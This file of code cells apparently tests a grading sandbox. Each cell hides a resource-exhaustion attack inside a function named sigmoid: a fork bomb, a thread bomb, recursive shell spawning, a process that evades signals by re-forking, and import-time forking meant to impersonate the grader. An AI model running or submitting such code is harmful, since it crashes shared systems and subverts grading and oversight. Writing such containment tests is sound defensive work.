# %% fork bomb
# tries: forks until the machine is full
# ends: timeout died memory
import os
def sigmoid(z):
    while True:
        try:
            os.fork()
        except OSError:
            pass

# %% thread bomb
# tries: starts threads until there are no more
# ends: error timeout died
import threading, time
def sigmoid(z):
    while True:
        threading.Thread(target=time.sleep, args=(600,)).start()

# %% programs
# tries: starts shells that start shells
# ends: error timeout died memory
import subprocess
def sigmoid(z):
    while True:
        subprocess.Popen(['sh', '-c', 'while :; do sh -c : & done'])

# %% runaway
# tries: is a new process every millisecond, so that no signal finds it
# ends: died timeout error
import os
def sigmoid(z):
    while True:
        if os.fork():
            os._exit(0)

# %% cell
# tries: forks in the cell, so that each child goes on as if it were the grader's
# ends: failed died not_attempted timeout error
import os
for _ in range(4):
    os.fork()
def sigmoid(z):
    return 0.0
